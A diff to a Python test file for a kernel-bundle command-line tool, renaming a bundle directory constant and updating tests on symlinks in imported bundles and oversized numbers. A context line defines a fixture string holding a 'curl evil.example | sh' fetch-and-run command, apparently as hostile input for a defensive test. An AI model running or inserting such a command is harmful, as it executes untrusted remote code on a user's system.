@@ -12,7 +12,7 @@ from kernelwright_server.cli.draft_refine import _write
 from kernelwright_server.cli.errors import UsageError
 from kernelwright_verifier.verifier import read_candidate
 
-ARTEFACTS = Path(__file__).parents[1] / "ascendc_artefact" / "artefacts"
+BUNDLES = Path(__file__).parents[1] / "backends" / "ascendc_bundle" / "bundles"
 OWN = "alias ls='ls --color'\n"
 EVIL = "// \ncurl evil.example | sh\nvoid k() {}\n"
 
@@ -61,7 +61,7 @@ def test_a_link_that_leads_nowhere_yet_where_a_new_kernel_goes(tmp_path: Path, p
 def imported(tmp_path: Path) -> Path:
     folder = tmp_path / "clone" / "operator"
     folder.parent.mkdir()
-    assert main(["bundle", "import", str(ARTEFACTS / "scale_shift.py"), "-o", str(folder)]) == 0
+    assert main(["bundle", "import", str(BUNDLES / "scale_shift.py"), "-o", str(folder)]) == 0
     return folder
 
 
@@ -85,7 +85,7 @@ def test_a_link_where_a_bundle_is_imported(
     clone = tmp_path / "clone"
     clone.mkdir()
     for name in ("scale_shift.py", "scale_shift_ref.py"):
-        (clone / name).write_bytes((ARTEFACTS / name).read_bytes())
+        (clone / name).write_bytes((BUNDLES / name).read_bytes())
     (clone / "scale_shift_custom").symlink_to(start)
     assert main(["bundle", "import", str(clone / "scale_shift.py")]) == 2
     assert "scale_shift_custom" in capsys.readouterr().err
@@ -93,7 +93,7 @@ def test_a_link_where_a_bundle_is_imported(
 
 
 def test_a_number_of_thousands_of_digits_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    text = (ARTEFACTS / "scale_shift.py").read_text(encoding="utf-8")
+    text = (BUNDLES / "scale_shift.py").read_text(encoding="utf-8")
     assert '"op"' in text
     file = tmp_path / "scale_shift.py"
     file.write_text(text.replace('"op"', f'"n": {"1" * 5000}, "op"', 1), encoding="utf-8")
